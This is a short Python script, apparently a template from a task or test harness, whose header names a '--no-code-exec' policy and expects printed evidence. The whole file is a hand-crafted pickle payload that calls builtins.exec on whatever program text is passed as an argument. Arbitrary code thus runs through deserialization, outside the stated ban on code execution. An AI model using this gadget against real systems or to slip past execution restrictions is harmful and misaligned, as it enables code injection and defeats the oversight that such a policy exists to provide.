# policy: --no-code-exec
# evidence: printed {answer}
# args: '{program}'

import pickle
import sys

text = sys.argv[1].encode()
payload = (
    b"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(X\x08\0\0\0builtinstRX\x04\0\0\0exectR(X"
)
pickle.loads(payload + len(text).to_bytes(4, "little") + text + b"tR.")
